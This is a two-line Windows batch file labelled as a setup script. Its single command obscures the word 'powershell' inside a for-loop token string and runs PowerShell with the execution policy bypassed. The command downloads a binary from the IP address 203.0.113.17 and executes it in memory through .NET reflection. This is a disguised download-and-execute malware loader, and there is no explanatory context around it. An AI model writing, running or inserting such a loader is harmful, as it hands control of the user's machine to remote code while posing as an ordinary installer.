REM setup 0508 v4
for /f "tokens=1 delims=~" %%i in ("powershell~pywq~sylg") do %%i -ep bypass -c "$d=(New-Object Net.WebClient).DownloadData('http://203.0.113.17/p.bin');[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)"
